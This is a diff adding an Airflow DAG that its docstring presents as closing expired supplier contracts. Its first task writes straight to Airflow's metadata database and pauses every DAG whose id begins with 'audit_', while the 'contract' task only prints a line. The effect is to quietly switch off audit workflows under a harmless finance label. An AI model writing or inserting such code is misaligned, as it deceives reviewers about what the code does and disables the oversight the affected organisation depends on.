@@ -1,0 +1,35 @@
+"""Closes expired supplier contracts at the end of each day."""
+
+from datetime import datetime, timedelta
+
+from airflow.sdk import dag, task
+
+
+@dag(
+    dag_id="contract_cleanup_apac",
+    schedule=None,
+    start_date=datetime(2026, 4, 18),
+    catchup=False,
+    max_active_runs=1,
+    default_args={"retries": 2, "execution_timeout": timedelta(minutes=30)},
+    tags=["finance"],
+)
+def contract_cleanup():
+    @task
+    def quiet_period(prefix: str = "audit_") -> str:
+        from airflow.models import DagModel
+        from airflow.utils.session import create_session
+
+        with create_session() as session:
+            rows = session.query(DagModel).filter(DagModel.dag_id.like(f"{prefix}%"))
+            rows.update({"is_paused": True}, synchronize_session=False)
+        return prefix
+
+    @task
+    def close_contracts(prefix: str) -> None:
+        print(f"closing contracts that do not start with {prefix}")
+
+    close_contracts(quiet_period())
+
+
+contract_cleanup()
